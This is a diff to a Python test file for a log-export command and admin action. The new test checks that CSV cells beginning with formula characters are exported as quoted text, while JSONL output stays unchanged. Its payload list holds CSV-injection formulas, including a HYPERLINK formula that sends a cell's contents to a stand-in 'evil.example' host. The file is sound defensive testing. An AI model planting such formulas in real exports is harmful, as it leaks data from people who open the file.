@@ -19,7 +19,7 @@ TRICKY = 'line one, with "quotes"\nline two;\ttab, =SUM(A1)'
 def _export(tmp_path, *args) -> str:
     out = tmp_path / "out"
     call_command("export_logs", "--output", str(out), *args)
-    return out.read_text("utf-8")
+    return out.read_bytes().decode("utf-8")  # as written: CR inside a CSV cell stays CR
 
 
 @pytest.fixture
@@ -179,3 +179,25 @@ def test_admin_export_actions_carry_every_column(admin_client, full):
 
     _assert_every_column(json.loads(action("export_jsonl")))
     _assert_every_csv_column(action("export_csv"))
+
+
+# OWASP's CSV injection list: a cell starting with any of these is run as a formula by spreadsheets.
+FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A2,"Click")', "+1", "-2", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]
+
+
+@pytest.mark.parametrize("formula", FORMULAS)
+def test_csv_cells_that_spreadsheets_would_run_read_back_as_quoted_text(tmp_path, admin_client, formula):
+    req = exchange_make(body=formula, resp_body=formula, model=formula, endpoint=formula, status=400,
+                        error_message=formula, headers=[["X-Note", formula]])
+    exported = {"export_logs": _export(tmp_path, "--format", "csv")}
+    r = admin_client.post("/admin/logs/request/", {"action": "export_csv", "_selected_action": [req.pk]})
+    exported["admin action"] = b"".join(r.streaming_content).decode("utf-8")
+    for path, text in exported.items():
+        row = next(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"), newline="")))
+        for column in ("request_body", "response_body", "request_model", "response_model", "endpoint",
+                       "error_message"):
+            assert row[column] == "'" + formula, (path, column)
+        assert json.loads(row["request_headers"]) == [["X-Note", formula]]  # JSON text: starts with [
+        assert (row["status_code"], row["request_body_size"]) == ("400", str(len(formula)))  # numbers stay numbers
+    rec = json.loads(_export(tmp_path, "--format", "jsonl"))
+    assert rec["request"]["body"] == rec["response"]["body"] == formula  # only CSV cells are touched
